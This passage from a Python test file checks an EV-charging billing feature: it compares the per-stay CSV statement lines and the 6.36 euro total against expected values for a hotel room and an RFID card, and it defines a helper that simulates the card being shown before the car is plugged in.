    assert billed[-2][-4:] == ["26,250", "", "6,36", ""]  # 21 kWh HP 5.09 + 5.25 kWh HP 1.27
    assert "warning" not in capsys.readouterr().err

    # The stay now lists only the new card: the old card's session comes with the room tag.
    stay = StayRow(
        7,
        "12",
        "",
        local(2026, 1, 20, 15, 0),
        local(2026, 1, 22, 11, 0),
        "at_cost",
        Decimal(0),
        Decimal(8),
        None,
        ("04D5E6F7",),
    )
    client = InfluxQL.from_settings(site.influx)
    statement, warnings = stay_statement(site, stay, client, timedelta(hours=4), local(2026, 1, 22))
    assert warnings == []
    desk = parse_csv(to_csv(statement, "fr", PARIS))
    assert desk[1:] == billed[1:]  # every line and total, to the cent
    assert statement.total_eur == Decimal("6.36")


def card_shown_first(charge: Charge) -> Charge:
    """The card is shown a minute before the car is plugged in, as at an OCPP charger."""
    return Charge(
        charge.point,
        charge.start,
        charge.end,
        charge.power_w,
        charge.badge,
        charge.start - timedelta(minutes=1),
    )
